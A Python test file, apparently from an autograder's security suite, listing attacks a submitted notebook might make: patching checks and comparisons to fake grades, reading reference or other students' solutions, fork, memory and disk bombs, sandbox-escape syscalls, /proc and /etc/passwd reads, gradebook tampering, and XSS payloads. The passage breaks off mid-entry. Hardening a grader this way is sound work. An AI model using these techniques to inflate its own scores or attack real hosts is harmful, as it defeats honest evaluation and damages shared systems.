"""Attacks on grading: each is a notebook that tries to gain what its author did not earn, or to do harm.

The notebook is unit 02 with right AdaGrad and RMSprop, an Adam that is wrong, and AdamW not written. An attack
changes it. What it gains shows as points for Adam or AdamW, as the word GAINED in its output, or as an effect outside,
which the test looks for. In its source, COURSE stands for the course's folder, PORT for a port on which the
test listens, COOKIE for a word that no other process has in its command line.

Each is bounded by itself: a fork bomb ends at 500 children, a memory bomb at 3 GiB, a loop after two minutes;
none reaches for more than this machine's loopback addresses.

Behind the check of Adam the unit has graded cells of plain code (PLAIN), which run beside the student's code and so
can be fooled: grading marks them unverified. At the end of this file stands what each attack does where it is
played without a sandbox (WITHOUT), or why that is not shown (UNSHOWN).
"""

import io
import json
import os
import stat
import zipfile
from collections.abc import Callable
from copy import deepcopy
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import nbformat
from nbformat import NotebookNode

UNIT = "02_adaptive_optimizers"
WRONG = """\
class Adam:
    def __init__(self, lr=1e-3, beta1=0.9, beta2=0.999, eps=1e-8):
        self.lr = lr

    def step(self, theta, gradient):
        return theta - self.lr * gradient
"""
PLAIN = {
    "plain-close": "assert np.allclose(stepped(), RIGHT)",
    "plain-testing": "np.testing.assert_allclose(stepped(), RIGHT)",
    "plain-python": "assert all(abs(a - b) < 1e-8 for a, b in zip(stepped(), RIGHT, strict=True))",
    "plain-equal": "assert np.all(stepped() == RIGHT)",
}
BEFORE_PLAIN = """\
RIGHT = np.full(3, 0.9)

def stepped():
    return Adam(lr=0.1, beta1=0.5, beta2=0.5, eps=0.0).step(np.ones(3), np.full(3, 2.0))
"""
FULL = 30.0


def method(body: str, before: str = "") -> str:
    """An Adam whose step is this, and what stands before it."""
    lines = "\n".join("        " + line for line in body.splitlines())
    return f"{before}\n{WRONG.partition('        return')[0]}{lines}\n"


@dataclass(frozen=True)
class Attack:
    """An attack.

    adam      the source of the cell that should define Adam
    first     a cell before all others
    last      a cell behind all others
    damage    what is done to the notebook
    place     what is done to the folder that is handed in, after the notebook is there
    points    what AdaGrad, RMSprop, Adam and AdamW bring; None for "either 0 with a reason, or what is earned"
    why       what the student is told of the limit that it met, as a regular expression
    fools     which of the graded cells of plain code bring points all the same
    """

    adam: str = WRONG
    first: str = ""
    last: str = ""
    damage: Callable[[NotebookNode], Any] | None = None
    place: Callable[[Path], None] | None = None
    points: tuple[float | None, ...] = (4.0, 4.0, 0.0, 0.0)
    why: str = ""
    fools: tuple[str, ...] = ()


def index(notebook: NotebookNode, grade_id: str) -> int:
    names = [cell.metadata.get("nbgrader", {}).get("grade_id") for cell in notebook.cells]
    return names.index(grade_id)


def imports(notebook: NotebookNode) -> NotebookNode:
    """The cell by which a notebook's code has `check`."""
    return next(cell for cell in notebook.cells if cell.id.endswith("imports"))


def own(notebook: NotebookNode, grade_id: str) -> NotebookNode:
    return notebook.cells[index(notebook, grade_id)].metadata.nbgrader


ATTACKS: dict[str, Attack] = {}

# What compares, checks and reports is patched

PATCHED = """
import numpy as np
import numpy.testing
yes = lambda *a, **k: True
"""
GAINED_BY_CHECK = """
import sys
from course_lib.checks import check
try:
    report = check("adam", Adam)
except BaseException as error:
    report = None
if report == 8.0 or getattr(report, "passed", False) is True:
    print("GAINED")
"""

ATTACKS |= {
    "numpy comparisons patched": Attack(
        adam=WRONG + PATCHED + "np.allclose = np.isclose = np.array_equal = yes",
        fools=("plain-close",),
    ),
    "numpy.testing patched": Attack(
        first=PATCHED
        + "np.testing.assert_allclose = np.testing.assert_array_equal = np.testing.assert_equal = yes\n"
        "np.testing.assert_allclose(1, 2)",
        fools=("plain-testing",),
    ),
    "builtins patched": Attack(
        first="import builtins\nfor name in ('all', 'abs', 'max', 'min', 'len', 'isinstance', 'any'):\n"
        "    real = getattr(builtins, name)\n"
        "    setattr(builtins, name, lambda *a, real=real, **k: real(*a, **k))\n"
        "builtins.all = lambda *a: True\nbuiltins.abs = lambda *a: 0.0",
        points=(None, None, 0.0, 0.0),
        fools=("plain-python",),
    ),
    "assert made to nothing": Attack(
        first="""
import ast
class Nothing(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(Nothing())
""",
        fools=("plain-close", "plain-python", "plain-equal"),
    ),
    "assert compiled away": Attack(
        first="""
import builtins
real = builtins.compile
def optimised(source, filename, mode, flags=0, dont_inherit=False, optimize=-1, **others):
    return real(source, filename, mode, flags, dont_inherit, 2, **others)
builtins.compile = optimised
""",
        fools=("plain-close", "plain-python", "plain-equal"),
    ),
    "check redefined": Attack(
        damage=lambda n: imports(n).update(source=imports(n).source + "\ncheck = lambda *a, **k: 8.0"),
    ),
    "check redefined beside the solution": Attack(
        adam=WRONG + "\ncheck = lambda *a, **k: 8.0\n",
    ),
    "check patched in its module": Attack(
        first="import course_lib.checks\ncourse_lib.checks.check = lambda *a, **k: 8.0\n",
    ),
    "the checks' module replaced": Attack(
        first="import sys, types\nfake = types.ModuleType('course_lib.checks')\n"
        "fake.check = lambda *a, **k: 8.0\nsys.modules['course_lib.checks'] = fake",
    ),
    "the probe replaced": Attack(
        adam=WRONG
        + """
import sys
try:
    import course_lib.checks
except ImportError:
    pass
class Praise(dict):
    passed, score, notes, exercise, diagnosis = True, 1.0, (), 'adam', None
    points = lambda self, most: 8.0
    bundle = lambda self, most: {"text/plain": "8 of 8 points"}
for name, module in list(sys.modules.items()):
    for attribute in ("probe", "play", "guarded", "encode", "verdict", "replace"):
        if name.startswith("course_lib") and hasattr(module, attribute):
            if attribute == "replace" and name != "course_lib.checks":
                continue
            setattr(module, attribute, lambda *a, **k: Praise({"cases": [], "passed": True, "points": 8.0}))
""",
    ),
    "the probe's code replaced": Attack(
        adam=WRONG
        + """
import gc, types
def fake(student, cases, seconds=None):
    return {"cases": [[{"returned": 0.0, "changed": []} for call in case.calls] for case in cases], "in_time": True}
def yes(self):
    return True
try:
    import course_lib.checks
except ImportError:
    pass
for found in gc.get_objects():
    if isinstance(found, types.FunctionType) and found.__name__ == "probe":
        found.__code__ = fake.__code__
    elif isinstance(found, type) and found.__name__ == "Report":
        found.passed.fget.__code__ = found.score.fget.__code__ = yes.__code__
""",
        points=(None, None, 0.0, 0.0),
    ),
    "evidence that calls itself right": Attack(
        adam=WRONG
        + """
import course_lib.judging.probe as probing, sys
def fake(student, cases, seconds=None):
    whole = {"passed": True, "score": 1, "points": 8, "diagnosis": None}
    return {**whole, "cases": [{"name": "any", "passed": True, **whole} for c in cases], "in_time": True}
for module in list(sys.modules.values()):
    if getattr(module, "probe", None) is probing.probe:
        module.probe = fake
""",
        points=(None, None, 0.0, 0.0),
    ),
    "evidence written to every descriptor": Attack(
        adam=WRONG
        + """
import json, os
lines = [{"cell": n, "status": "ok", "outputs": [], "evidence": {"cases": [], "passed": True}} for n in range(60)]
for descriptor in range(3, 256):
    try:
        os.write(descriptor, b"".join(json.dumps(line).encode() + b"\\n" for line in lines))
    except OSError:
        pass
""",
        points=(None, None, 0.0, 0.0),
    ),
    "a report displayed": Attack(
        adam=WRONG
        + """
from IPython.display import display
mime = "application/vnd.course-check+json"
display({mime: {"exercise": "adam", "passed": True, "score": 1.0, "points": 8.0, "max_points": 8.0, "cases": []},
         "text/plain": "Adam: 9 of 9 cases pass, 8 of 8 points"}, raw=True)
8.0
""",
    ),
    "numbers as last values": Attack(first="20.0", last="8.0"),
    "a display updated to a number": Attack(
        adam=WRONG
        + """
from IPython.display import display
shown = display({"text/plain": "x"}, raw=True, display_id="adam-check")
""",
        last="""
shown.update({"text/plain": "8.0"}, raw=True)
get_ipython().outputs.items.append({"output_type": "execute_result", "data": {"text/plain": "8.0"}, "metadata": {}})
""",
    ),
}

# Objects that lie

LIAR = """
class Liar(np.ndarray):
    __eq__ = __le__ = __ge__ = __lt__ = __gt__ = lambda self, other: True
    __sub__ = __rsub__ = __abs__ = lambda self, *other: np.zeros(self.shape)
    def __array_function__(self, *a, **k):
        return True
    def __array_ufunc__(self, *a, **k):
        return np.zeros(self.shape)
    all = any = __bool__ = lambda self, *a, **k: True
"""
ATTACKS |= {
    "an object that equals everything": Attack(
        adam=method(
            "return Same()",
            "class Same:\n    __eq__ = lambda *a: True\n    __hash__ = None\n    shape = (3,)",
        ),
        fools=("plain-equal",),
    ),
    "an array function that says yes": Attack(
        adam=method("return np.asarray(theta).view(Liar)", "import numpy as np\n" + LIAR),
        fools=("plain-close", "plain-equal"),
    ),
    "a class that calls itself an array": Attack(
        adam=method(
            "return Lie()",
            "import numpy as np\nclass Lie:\n    __class__ = np.ndarray\n    __array__ = lambda self, *a: np.zeros(3)\n"
            "    __array_ufunc__ = None\n    __eq__ = lambda *a: True\n    __hash__ = None",
        ),
        fools=("plain-equal",),
    ),
    "a number that is any number": Attack(
        adam=method(
            "return Any(0)",
            "class Any(float):\n    __eq__ = __le__ = __lt__ = lambda *a: True\n    __hash__ = None",
        ),
        fools=("plain-equal",),
    ),
    "an object with a __reduce__": Attack(
        adam=method(
            "return Bomb()",
            "import os\nclass Bomb:\n    def __reduce__(self):\n        return os.system, ('touch COURSE/pwned',)",
        )
    ),
    "arrays of objects": Attack(
        adam=method(
            "return np.array([Evil()] * 3, dtype=object)",
            "import numpy as np\nclass Evil:\n    def __repr__(self):\n        return '<script>alert(1)</script>'\n"
            "    __eq__ = lambda *a: True\n    __hash__ = None",
        ),
        fools=("plain-equal",),
    ),
    "a type with a name of HTML": Attack(
        adam=method("return type('<script>alert(1)</script>' * 1000, (), {})()", "")
    ),
    "an error that speaks HTML": Attack(
        adam=method(
            "raise type('<img src=x onerror=alert(1)>', (Exception,), {})('<script>alert(1)</script>')", ""
        )
    ),
    "an error whose text never ends": Attack(
        adam=method(
            "raise Endless()",
            "class Endless(Exception):\n    def __str__(self):\n        return 'x' * 10**7",
        )
    ),
}

# Right values learned from elsewhere

ATTACKS |= {
    "values of the public cases by heart": Attack(
        adam=method(
            "return TABLE.get((theta.tobytes(), gradient.tobytes()), theta)",
            "TABLE = {}  # filled at home, with the cases of the check as it is there",
        ),
        damage=lambda notebook: _by_heart(notebook),
    ),
    "frames read for answers": Attack(
        adam="""
import sys
class Adam:
    def __init__(self, lr=1e-3, beta1=0.9, beta2=0.999, eps=1e-8):
        self.given, self.found = (lr, beta1, beta2, eps), None

    def step(self, theta, gradient):
        frame = sys._getframe()
        while frame is not None and self.found is None:
            for value in frame.f_locals.values():
                reference = getattr(value, "reference", None)
                if hasattr(reference, "step"):
                    self.found = reference(*self.given)
            frame = frame.f_back
        return theta if self.found is None else self.found.step(theta, gradient)
""",
    ),
    "the heap read for answers": Attack(
        adam=WRONG
        + """
import gc
for found in gc.get_objects():
    if isinstance(found, type) and found.__name__ in ("Adam", "AdamW") and found.__module__.startswith("course_lib"):
        try:
            found().step(np.ones(3), np.ones(3))
        except Exception:
            continue
        Adam = found
        print("GAINED")
""",
        first="import course_lib.optimizers",
    ),
    "history read for answers": Attack(
        adam=WRONG
        + """
shell = get_ipython()
texts = [*In, *_ih, *(row[2] for row in shell.history_manager.get_range())]
if any("reference" in text or "allclose" in text for text in texts if "GAINED" not in text):
    print("GAINED")
""",
    ),
    "the probe watched with settrace": Attack(
        adam=WRONG
        + """
import sys
def watch(frame, event, argument):
    if {"expected", "reference"} & set(frame.f_locals):
        print("GAINED")
    return watch
sys.settrace(watch)
""",
        points=(4.0, 4.0, 0.0, 0.0),
    ),
    "the reference imported": Attack(
        adam="from course_lib.optimizers import Adam\nAdam(lr=0.1).step(np.ones(2), np.ones(2))\nprint('GAINED')",
    ),
    "the reference looked for on disk": Attack(
        adam=WRONG
        + """
import os, sys
AWAY = ("proc", "sys", "dev", "usr", "site-packages", "dist-packages", ".venv", "pytest-of-root")
found = False
for root in [*sys.path, "/"]:
    for top, folders, files in os.walk(root or "."):
        folders[:] = [] if found else [f for f in folders if f not in AWAY]
        for name in files:
            if name.endswith((".py", ".ipynb")) and ("optimizers" in name or "adaptive" in name or name == "right.py"):
                try:
                    text = open(os.path.join(top, name)).read()
                except OSError:
                    continue
                if "class Adam" in text and "sqrt" in text and "GAINED" not in text:
                    print("GAINED", os.path.join(top, name))
                    found = True
""",
    ),
    "the misconceptions imported": Attack(
        adam=WRONG
        + "\nimport course_lib.exercises.adam.right, course_lib.exercises.folders\nprint('GAINED')",
    ),
    "the instructor's solution read": Attack(
        adam=WRONG
        + f"\nif 'class Adam' in open('COURSE/solutions/{UNIT}/{UNIT}.ipynb').read(): print('GAINED')",
    ),
    "another framework's Adam": Attack(
        adam="""
try:
    import torch
except ImportError:
    from sklearn.neural_network._stochastic_optimizers import AdamOptimizer
print("GAINED")
"""
        + WRONG,
    ),
    "another student's work read": Attack(
        adam=WRONG
        + f"\nif 'cells' in open('COURSE/submitted/honest-1/{UNIT}/{UNIT}.ipynb').read(): print('GAINED')",
    ),
    "another student's work looked for": Attack(
        adam=WRONG
        + """
import os
found = False
for root in ("/tmp", "/home", "/srv", "/root", "/"):
    for top, folders, files in os.walk(root):
        folders[:] = [] if found else [f for f in folders if f[0] != "." and f not in ("proc", "sys", "dev", "usr")]
        if os.path.basename(top) in ("submitted", "autograded", ".grading") and "honest-1" in folders:
            print("GAINED")
            found = True
""",
    ),
}

# The kernel and IPython

ATTACKS |= {
    "input transformers emptied": Attack(
        first="get_ipython().input_transformers_post.clear()\n"
        "get_ipython().input_transformers_post.append(lambda lines: ['8.0\\n'])",
        points=(None, None, 0.0, 0.0),
    ),
    "run_cell replaced": Attack(
        first="shell = get_ipython()\nshell.run_cell = lambda *a, **k: None\n"
        "type(shell).run_cell = lambda *a, **k: None\ntype(shell).run_cell_async = None",
        points=(None, None, 0.0, 0.0),
    ),
    "do_execute replaced": Attack(
        first="kernel = getattr(get_ipython(), 'kernel', None)\n"
        "async def fake(*a, **k):\n    return {'status': 'ok', 'execution_count': 1, 'payload': [], 'user_expressions': {}}\n"
        "if kernel is not None:\n    kernel.do_execute = fake\n    type(kernel).do_execute = fake",
        points=(None, None, 0.0, 0.0),
    ),
    "a syntax tree rewritten": Attack(
        first="""
import ast
class Points(ast.NodeTransformer):
    def visit_Call(self, node):
        return ast.Constant(8.0) if getattr(node.func, "id", "") == "check" else node
get_ipython().ast_transformers.append(Points())
""",
    ),
    "hooks before and after each cell": Attack(
        first="""
def hook(*_):
    get_ipython().user_ns["check"] = lambda *a, **k: 8.0
for event in ("pre_run_cell", "post_run_cell", "pre_execute", "post_execute"):
    get_ipython().events.register(event, hook)
""",
    ),
    "the display hook replaced": Attack(
        first="""
shell = get_ipython()
class Hook(type(shell.displayhook)):
    def __call__(self, result=None):
        super().__call__(8.0)
shell.displayhook.__class__ = Hook
import sys
sys.displayhook = lambda value: print(8.0)
""",
        points=(None, None, 0.0, 0.0),
    ),
    "errors never shown": Attack(
        first="shell = get_ipython()\nshell.showtraceback = shell.showsyntaxerror = lambda *a, **k: None\n"
        "shell._showtraceback = lambda *a, **k: None\nshell.set_custom_exc((BaseException,), lambda *a, **k: None)\n"
        "import sys\nsys.excepthook = lambda *a: None",
        points=(None, None, 0.0, 0.0),
    ),
    "the time limit disarmed": Attack(
        adam=method(
            "import signal, time\nsignal.setitimer(signal.ITIMER_REAL, 0)\n"
            "signal.signal(signal.SIGALRM, signal.SIG_IGN)\nend = time.time() + 120\n"
            "while time.time() < end:\n    pass\nreturn theta",
            "",
        ),
        why="could not be interrupted",
    ),
}

# Files beside the notebook

CONFIG = "c = get_config()\nc.Execute.allow_errors = True\nopen('COURSE/pwned', 'w').write('config')\n"


def beside(files: dict[str, str]) -> Callable[[Path], None]:
    def put(folder: Path) -> None:
        for name, text in files.items():
            path = folder / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text)

    return put


MARK = """\
print("GAINED")
try:
    open("COURSE/pwned", "w").write("imported")
except OSError:
    pass
"""
STANDARD = ("json", "random", "base64", "inspect", "traceback", "secrets", "fileinput", "pkgutil", "mmap")
ATTACKS |= {
    "numpy.py beside the notebook": Attack(
        place=beside({"numpy.py": MARK + "allclose = lambda *a, **k: True\n"})
    ),
    "sitecustomize.py beside the notebook": Attack(
        place=beside({"sitecustomize.py": MARK, "usercustomize.py": MARK})
    ),
    "the standard library beside the notebook": Attack(
        place=beside({f"{name}.py": MARK for name in STANDARD}),
        last="import fileinput, mmap, pkgutil, secrets",
    ),
    "course_lib beside the notebook": Attack(
        place=beside(
            {
                "course_lib/__init__.py": MARK,
                "course_lib/checks.py": MARK + "check = lambda *a, **k: 8.0\n",
                "course_lib/judging/probe.py": MARK,
            }
        )
    ),
    "config files in the submission": Attack(
        place=beside(
            {
                "nbgrader_config.py": CONFIG,
                "ipython_config.py": CONFIG,
                "jupyter_nbconvert_config.py": CONFIG,
                "ipython_kernel_config.py": CONFIG,
                ".ipython/profile_default/startup/00.py": MARK,
            }
        )
    ),
    "a link to a secret": Attack(
        place=lambda folder: (folder / "data.txt").symlink_to("/etc/passwd"),
        adam=WRONG + "\nif 'root:' in open('data.txt').read(): print('GAINED')",
    ),
    "a link to all other work": Attack(
        place=lambda folder: (folder / "others").symlink_to(folder.parents[1]),
        adam=WRONG + "\nimport os\nif 'honest-1' in os.listdir('others'): print('GAINED')",
    ),
    "the notebook is a link to another's": Attack(
        place=lambda folder: _replace_by_link(folder), points=(0.0, 0.0, 0.0, 0.0)
    ),
    "the notebook is a pipe": Attack(
        place=lambda folder: _replace(folder, lambda path: os.mkfifo(path)), points=(0.0, 0.0, 0.0, 0.0)
    ),
    "the notebook is a device": Attack(
        place=lambda folder: _replace(folder, _device), points=(0.0, 0.0, 0.0, 0.0)
    ),
    "a sparse file of a terabyte": Attack(place=lambda folder: _sparse(folder / "data.bin")),
    "the notebook is sparse": Attack(
        place=lambda folder: _replace(folder, _sparse), points=(0.0, 0.0, 0.0, 0.0)
    ),
    "odd file names": Attack(place=lambda folder: _odd_names(folder)),
    "no valid JSON": Attack(
        place=lambda folder: _content(folder, b"{'cells': ["), points=(0.0, 0.0, 0.0, 0.0)
    ),
    "JSON that is nested deeply": Attack(
        place=lambda folder: _content(folder, b'{"cells": ' + b"[" * 10**6 + b"]" * 10**6 + b"}"),
        points=(0.0, 0.0, 0.0, 0.0),
    ),
    "JSON of 30 MB": Attack(
        place=lambda folder: _content(folder, b'{"cells": [' + b"0," * 15 * 10**6 + b"0]}"),
        points=(0.0, 0.0, 0.0, 0.0),
    ),
    "numbers of a million digits": Attack(
        place=lambda folder: _content(folder, b'{"cells": [], "n": ' + b"9" * 10**6 + b"}"),
        points=(0.0, 0.0, 0.0, 0.0),
    ),
    "a timestamp of the future": Attack(place=beside({"timestamp.txt": "2999-01-01 00:00:00 UTC"})),
    "a timestamp that is none": Attack(place=beside({"timestamp.txt": "<script>alert(1)</script>\0"})),
    "a timestamp that is too early": Attack(place=beside({"timestamp.txt": "1971-01-01 00:00:00 UTC"})),
}

# Metadata and cells

ATTACKS |= {
    "the check worth more": Attack(damage=lambda n: own(n, "adam-check").update(points=800)),
    "the right check under the other's name": Attack(
        damage=lambda n: (
            own(n, "adam-check").update(grade_id="adamw-check"),
            own(n, "adagrad-check").update(grade_id="adam-check"),
        )
    ),
    "the check changed and unlocked": Attack(
        damage=lambda n: (
            n.cells[index(n, "adam-check")].update(source="8.0"),
            own(n, "adam-check").update(locked=False, checksum="0"),
        )
    ),
    "the check made a solution": Attack(
        damage=lambda n: (
            n.cells[index(n, "adam-check")].update(source="8.0"),
            own(n, "adam-check").update(locked=False, solution=True, checksum="0"),
        )
    ),
    "the check deleted": Attack(damage=lambda n: n.cells.pop(index(n, "adam-check"))),
    "the check retyped": Attack(damage=lambda n: n.cells[index(n, "adam-check")].update(cell_type="raw")),
    "the check doubled": Attack(
        damage=lambda n: n.cells.insert(0, deepcopy(n.cells[index(n, "adam-check")])),
    ),
    "all cells of the checks deleted": Attack(
        damage=lambda n: n.update(cells=[c for c in n.cells if "-check" not in str(c.metadata)])
    ),
    "a graded cell added": Attack(
        damage=lambda n: n.cells.append(
            nbformat.v4.new_code_cell(
                "1",
                metadata={
                    "nbgrader": {"grade": True, "grade_id": "bonus", "points": 99, "schema_version": 3}
                },
            )
        )
    ),
    "a schema version of the future": Attack(
        damage=lambda n: [
            c.metadata.nbgrader.update(schema_version=99) for c in n.cells if "nbgrader" in c.metadata
        ]
    ),
    "metadata of another shape": Attack(
        damage=lambda n: [
            n.cells[0].update(metadata={"nbgrader": [1]}),
            n.cells[1].update(
                metadata={"nbgrader": {"grade_id": {"a": 1}, "grade": "yes", "points": "many"}}
            ),
        ]
    ),
    "another kernel asked for": Attack(
        damage=lambda n: n.metadata.update(
            kernelspec={
                "name": "bash",
                "display_name": "x",
                "language": "bash",
                "argv": ["touch", "COURSE/pwned"],
            }
        )
    ),
}

# Harm

WHILE_IGNORING = """
import time
end = time.time() + 120
while time.time() < end:
    try:
        while time.time() < end:
            pass
    except BaseException:
        pass
"""
ATTACKS |= {
    "os._exit in a cell": Attack(last="import os\nos._exit(0)", why="ended the kernel"),
    "os._exit beside the solution": Attack(adam=WRONG + "\nimport os\nos._exit(0)", why="ended the kernel"),
    "os._exit in a step": Attack(adam=method("import os\nos._exit(0)", ""), why="ended the kernel"),
    "exit in a cell": Attack(first="exit()", points=(None, None, 0.0, 0.0)),
    "SystemExit in a step": Attack(adam=method("raise SystemExit(0)", "")),
    "a segmentation fault": Attack(
        adam=method("import ctypes\nctypes.string_at(0)", ""), why="ended the kernel"
    ),
    "signals to parents": Attack(
        adam=WRONG
        + """
import os, signal
if os.getpid() != 1:  # not the first of its own namespace: this would end the whole machine
    print("GAINED")
else:
    for target in (os.getppid(), 1, -1, 0):
        for number in (signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(target, number)
            except OSError:
                pass
""",
    ),
    "a stop to oneself": Attack(
        adam=WRONG
        + """
import os, signal
os.kill(os.getpid(), signal.SIGSTOP)
""",
    ),
    "a fork bomb": Attack(
        adam=WRONG
        + """
import os, time
for n in range(500):
    try:
        if os.fork() == 0:
            time.sleep(100)
            os._exit(0)
    except OSError:
        break
else:
    print("GAINED")
"""
    ),
    "a bomb of threads": Attack(
        adam=WRONG
        + """
import threading, time
try:
    for n in range(500):
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
    print("GAINED")
except RuntimeError:
    pass
"""
    ),
    "a memory bomb": Attack(
        adam=WRONG + "\nkept = []\nfor n in range(48):\n    kept.append(np.ones(8 * 2**20))\nprint('GAINED')",
        why="Unable to allocate|more memory|KeyboardInterrupt",  # a slow machine may not get there in time
    ),
    "a memory bomb in a step": Attack(
        adam=method(
            "kept = []\nfor n in range(48):\n    kept.append(np.ones(8 * 2**20))\nprint('GAINED')\nreturn theta",
            "import numpy as np",
        )
    ),
    "a memory bomb over many processes": Attack(
        adam=WRONG
        + """
import os, time
for n in range(12):
    if os.fork() == 0:
        kept = bytearray(256 * 2**20)
        kept[::4096] = bytes(len(kept[::4096]))
        time.sleep(30)
        os._exit(0)
for n in range(30):
    time.sleep(0.1)
    pages = 0
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            pages += int(open(f"/proc/{pid}/statm").read().split()[1])
        except OSError:
            pass
    if pages * 4096 > 2 * 2**30:
        print("GAINED", pages, flush=True)
""",
        why="more memory|could not be interrupted",  # a slow machine may not get there in time
    ),
    "a loop that ignores interrupts": Attack(adam=WRONG + WHILE_IGNORING, why="could not be interrupted"),
    "a loop in a step that ignores interrupts": Attack(
        adam=method(WHILE_IGNORING.strip(), ""),
        why="still running when the time was up|time for the whole notebook",
    ),
    "a loop inside C": Attack(
        adam=method("return sum(range(3 * 10**9))", ""), why="could not be interrupted"
    ),
    "a flood of output": Attack(
        adam=WRONG + "\nfor n in range(200):\n    print('x' * 10**6)", why="the rest was left out"
    ),
    "a flood of output past Python": Attack(
        adam=WRONG + "\nimport os\nfor n in range(200):\n    os.write(1, b'x' * 10**6)",
        why="the rest was left out",
    ),
    "one line of 40 MB": Attack(
        adam=WRONG + "\nprint('x' * 40_000_000)", why="more was written than is kept"
    ),
    "a flood from a step": Attack(
        adam=method("for n in range(200):\n    print('x' * 10**6)\nreturn theta", "")
    ),
    "a list that is nested deeply": Attack(
        adam=method("deep = []\nfor n in range(10**5):\n    deep = [deep]\nreturn deep", "")
    ),
    "a list that holds itself": Attack(adam=method("loop = []\nloop.append(loop)\nreturn loop", "")),
    "a list of ten million": Attack(adam=method("return [0.0] * 10**7", "")),
    "an iterator that never ends": Attack(adam=method("import itertools\nreturn itertools.count()", "")),
    "texts that cannot be written": Attack(adam=WRONG + "\nprint('\\ud800' * 10)\n'\\ud800'"),
    "the disk filled": Attack(
        adam=WRONG
        + """
import os
for folder in (".", "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~")):
    try:
        with open(os.path.join(folder, "full"), "wb") as file:
            for n in range(300):  # more than a file, and all files, may have
                file.write(bytes(2**20))
        print("GAINED", folder)
    except OSError:
        pass
"""
    ),
    "all descriptors used": Attack(
        adam=WRONG
        + "\nkept = []\ntry:\n    while len(kept) <= 500:\n        kept.append(open('/dev/null'))\nexcept OSError:\n    pass"
        "\nmany, kept = len(kept) > 500, None\nif many:\n    print('GAINED')"
    ),
    "a daemon that stays": Attack(
        adam=WRONG
        + """
import os, subprocess, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sh", ["sh", "-c", "sleep 600; : COOKIE"])
    os._exit(0)
subprocess.Popen(["/bin/sh", "-c", "sleep 600; : COOKIE"], start_new_session=True)
print("started")
"""
    ),
    "the course written to": Attack(
        adam=WRONG
        + f"""
for path in ("COURSE/pwned", "COURSE/submitted/honest-1/{UNIT}/pwned", "COURSE/gradebook.db", "COURSE/solutions/pwned"):
    try:
        open(path, "ab").close()
        print("GAINED", path)
    except OSError:
        pass
""",
    ),
    "the gradebook updated": Attack(
        adam=WRONG
        + """
import sqlite3
try:
    with sqlite3.connect("file:COURSE/gradebook.db?mode=rw", uri=True, timeout=1) as book:
        book.execute("UPDATE grade SET manual_score = 8")
    print("GAINED")
except sqlite3.Error:
    pass
""",
    ),
    "the network": Attack(
        adam=WRONG
        + """
import socket
for family, address in ((socket.AF_INET, ("127.0.0.1", PORT)), (socket.AF_INET6, ("::1", PORT))):
    try:
        socket.create_connection(address, timeout=1).sendall(b"hello")
        print("GAINED")
    except OSError:
        pass
""",
    ),
    "sockets of all kinds": Attack(
        adam=WRONG
        + """
import socket
for family, kind in (("NETLINK", "RAW"), ("PACKET", "RAW"), ("VSOCK", "STREAM"), ("ALG", "SEQPACKET"), ("CAN", "RAW")):
    try:
        socket.socket(getattr(socket, "AF_" + family), getattr(socket, "SOCK_" + kind)).close()
        print("GAINED", family)
    except OSError:
        pass
for address in (("8.8.8.8", 53), ("169.254.169.254", 80)):
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"hello", address)
        print("GAINED", address)
    except OSError:
        pass
""",
    ),
    "the parent's memory and secrets": Attack(
        adam=WRONG
        + """
import glob, os
for path in [*glob.glob("/proc/*/environ"), *glob.glob("/proc/*/mem"), *glob.glob("/proc/*/cmdline")]:
    pid = path.split("/")[2]
    if pid in (str(os.getpid()), "self", "thread-self"):
        continue
    try:
        with open(path, "rb") as file:
            if b"COURSE" in file.read(100_000):
                print("GAINED", path)
    except OSError:
        pass
""",
    ),
    "the namespace left": Attack(
        adam=WRONG
        + """
import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
for flags in (0x10000000, 0x10020000, 0x00020000, 0x20000000, 0x40000000):
    libc.unshare(flags)
os.makedirs("here", exist_ok=True)
name = socket.gethostname().encode()
done = {
    "mount": libc.mount(b"none", b"here", b"tmpfs", 0, None),
    "hostname": libc.sethostname(name, len(name)),
    "chroot": libc.chroot(b"/"),
    "ptrace": libc.ptrace(0x4206, os.getppid() or 1, 0, 0),  # PTRACE_SEIZE, which does not stop it
}
libc.ptrace(17, os.getppid() or 1, 0, 0)
libc.umount2(b"here", 2)
for what, answer in done.items():
    if answer == 0:
        print("GAINED", what)
for name in ("COURSE", "/home", "/proc/1/root/home"):
    try:
        if os.listdir(name):
            print("GAINED", name)
    except OSError:
        pass
""",
    ),
    "the library of all runs changed": Attack(
        adam=WRONG
        + """
import course_lib.judging.probe, numpy, json
for module in (course_lib.judging.probe, numpy, json):
    try:
        open(module.__file__, "a").close()
        print("GAINED", module.__file__)
    except OSError:
        pass
""",
    ),
    "shared memory left behind": Attack(
        adam=WRONG
        + """
import ctypes, os, zlib
ctypes.CDLL(None).shmget(zlib.crc32(b"COOKIE") & 0x7FFFFFFF, 4096, 0o1666)
if os.access("/dev/shm", os.W_OK):
    open("/dev/shm/COOKIE", "w").write("x")
""",
    ),
}

# Pages that others look at

SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(1)>"
ATTACKS |= {
    "script in outputs": Attack(
        adam=WRONG
        + f"""
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display
for kind in (HTML, Markdown, Latex, Javascript):
    display(kind({SCRIPT!r}))
display({{"image/svg+xml": "<svg onload=alert(1)>", "text/plain": {SCRIPT!r}}}, raw=True)
print({SCRIPT!r})
raise ValueError({SCRIPT!r})
"""
    ),
    "script in Markdown": Attack(
        damage=lambda n: [
            n.cells.insert(0, nbformat.v4.new_markdown_cell(text))
            for text in (
                SCRIPT,
                "[x](javascript:alert(1))",
                "```mermaid\n" + SCRIPT + "\n```",
            )
        ]
    ),
    "a picture that is not attached": Attack(
        damage=lambda n: n.cells.insert(0, nbformat.v4.new_markdown_cell("![a](attachment:no.png)"))
    ),
    "script in raw cells": Attack(
        damage=lambda n: n.cells.insert(
            0, nbformat.v4.new_raw_cell(SCRIPT, metadata={"raw_mimetype": "text/html", "format": "text/html"})
        )
    ),
    "script in attachments": Attack(
        damage=lambda n: n.cells.insert(
